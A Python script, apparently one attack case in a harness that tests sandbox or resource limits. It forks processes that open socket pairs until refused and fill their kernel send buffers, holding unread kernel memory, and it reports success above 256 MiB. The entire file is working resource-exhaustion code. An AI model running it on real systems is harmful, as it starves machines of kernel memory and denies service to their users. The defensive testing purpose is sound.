"""Takes memory that the kernel holds for it, in sockets that nobody reads."""

import contextlib
import os
import socket
import time

from attacker import attempt, play

_LARGE = 4 * 2**20


def fill() -> int:
    """Open as many sockets as possible, and fill them; return how many bytes they hold."""
    held = 0
    kept: list[socket.socket] = []
    with contextlib.suppress(OSError):
        while True:
            kept += socket.socketpair()
    for end in kept:
        end.setblocking(False)
        with contextlib.suppress(OSError):
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, _LARGE)
        with contextlib.suppress(BlockingIOError):
            while True:
                held += end.send(bytes(2**16))
    time.sleep(1.0)
    return held


def attack() -> object:
    for _ in range(8):
        if os.fork() == 0:
            fill()
            os._exit(0)
    held = fill()
    return f"{held / 2**20:.0f} MiB" if held > 2**28 else ""


attempt(attack)
play()
